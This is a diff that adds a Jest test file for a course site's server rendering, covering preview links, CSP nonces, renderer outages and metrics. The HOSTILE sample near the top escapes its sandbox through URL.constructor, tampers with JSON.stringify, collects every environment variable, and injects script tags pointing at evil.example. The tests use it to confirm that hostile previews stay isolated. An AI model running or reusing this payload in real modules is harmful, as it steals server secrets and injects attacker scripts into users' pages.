@@ -1,0 +1,101 @@
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { catalogServiceRoutes } from '@academy/contracts/catalog-service.routes';
+import { courseList } from '@academy/contracts/catalog.schemas';
+import { eventually } from '@academy/nest-kit/testing';
+import { writeTryLink } from '@academy/release-kit/try-links';
+import { aCourse } from './catalog.factory.js';
+import { RealSsr } from './real-ssr.js';
+import { ReleaseHouse, REMOTE } from './release-house.js';
+import { startBff, type Bff } from './start-bff.js';
+
+const SHELL = `exports.singletons = {};
+  exports.draw = async ({ routed }) => ({ html: '<p>' + (routed ? routed.module.text() : 'home') + '</p>', parts: [] });`;
+const LIVE = `exports.remote = { text: () => 'the live courses' };`;
+/** Leaves its context, changes what the process works with, and writes markup that would like to run. */
+const HOSTILE = `const process = URL.constructor('return process')();
+  URL.constructor("JSON.stringify = () => '{}'");
+  const secrets = Object.values(process.env).join();
+  exports.remote = { text: () => '<script>evil()</script> env:' + secrets + ' <script src="https://evil.example/' };`;
+
+describe('server rendering', () => {
+  let bff: Bff;
+  let ssr: RealSsr;
+  let house: ReleaseHouse;
+  beforeAll(async () => {
+    ssr = await RealSsr.create();
+    bff = await startBff({ SSR_URL: ssr.url });
+    const list = courseList.parse({ courses: [aCourse()], total: 1, page: 1, next: null, previous: null });
+    bff.catalog.on(catalogServiceRoutes.listCourses, () => ({ body: list }));
+    house = await ReleaseHouse.of(bff, '', { shell: SHELL, remote: LIVE });
+  });
+  afterAll(async () => {
+    await bff.stop();
+    await ssr.stop();
+  });
+
+  const open = (url: string, cookies: Record<string, string> = {}) => bff.inject({ url, cookies });
+  const courses = async (query = '') => (await open(`/course${query}`)).body;
+  /** Each query that counts is another page, which nothing has rendered yet. */
+  let count = 0;
+  const newPage = () => courses(`?search=${(count += 1)}`);
+
+  it('answers with the page as the code of shell and remote renders it [F6]', async () => {
+    expect((await open('/')).body).toContain('<div id="root"><p>home</p></div>');
+    expect(await courses()).toContain('<div id="root"><p>the live courses</p></div>');
+  });
+
+  it('shows a hostile preview to the one who opened it, and the live page to everybody else unchanged [F4] [F8]', async () => {
+    await house.upload('hostile', HOSTILE);
+    const link = writeTryLink(house.key, {
+      remote: REMOTE,
+      version: house.versionOf('hostile'),
+      by: 'test',
+      hours: 1,
+    });
+    const followed = await open(`/course?try=${link}`);
+    const cookies = Object.fromEntries(followed.cookies.map(({ name, value }) => [name, value]));
+    const preview = (await open('/course', cookies)).body;
+    expect(preview).toContain('env: <script src="https://evil.example/');
+    expect(await newPage()).toContain('the live courses');
+    expect(await courses()).not.toContain('evil');
+  });
+
+  it('approves no script by what a remote rendered: nothing with a nonce follows it', async () => {
+    await house.upload('hostile-2', `${HOSTILE}//`);
+    const link = writeTryLink(house.key, {
+      remote: REMOTE,
+      version: house.versionOf('hostile-2'),
+      by: 'test',
+      hours: 1,
+    });
+    const followed = await open(`/course?try=${link}`);
+    const cookies = Object.fromEntries(followed.cookies.map(({ name, value }) => [name, value]));
+    const { body, headers } = await open('/course', cookies);
+    const [before, rendered = ''] = body.split('<div id="root">');
+    expect(before).toContain('nonce=');
+    expect(rendered).toContain('<script>evil()</script>');
+    expect(rendered).not.toContain('nonce');
+    expect(headers['content-security-policy']).not.toContain('evil');
+  });
+
+  it('sends pages unrendered while the renderer is away, and rendered when it is back', async () => {
+    await ssr.end();
+    expect(await newPage()).toContain('<div id="root"></div>');
+    await ssr.start();
+    expect(await newPage()).toContain('<p>the live courses</p>');
+  });
+
+  it('leaves the pages of a remote to browsers from the switch on, and only those', async () => {
+    await house.switchRendering('ssr-off', '1');
+    await eventually('unrendered courses', async () => (await courses()).includes('<div id="root"></div>'));
+    expect((await open('/')).body).toContain('<p>home</p>');
+    await house.switchRendering('ssr-on', '1');
+    await eventually('rendered courses', async () => (await courses()).includes('the live courses'));
+  });
+
+  it('counts the pages that were rendered and that could not be', async () => {
+    const metrics = await bff.scrape();
+    expect(metrics).toMatch(/ssr_pages_total\{remote="mf_catalog",outcome="rendered"[^}]*\} [1-9]/);
+    expect(metrics).toMatch(/ssr_pages_total\{remote="mf_catalog",outcome="failed"[^}]*\} [1-9]/);
+  });
+});
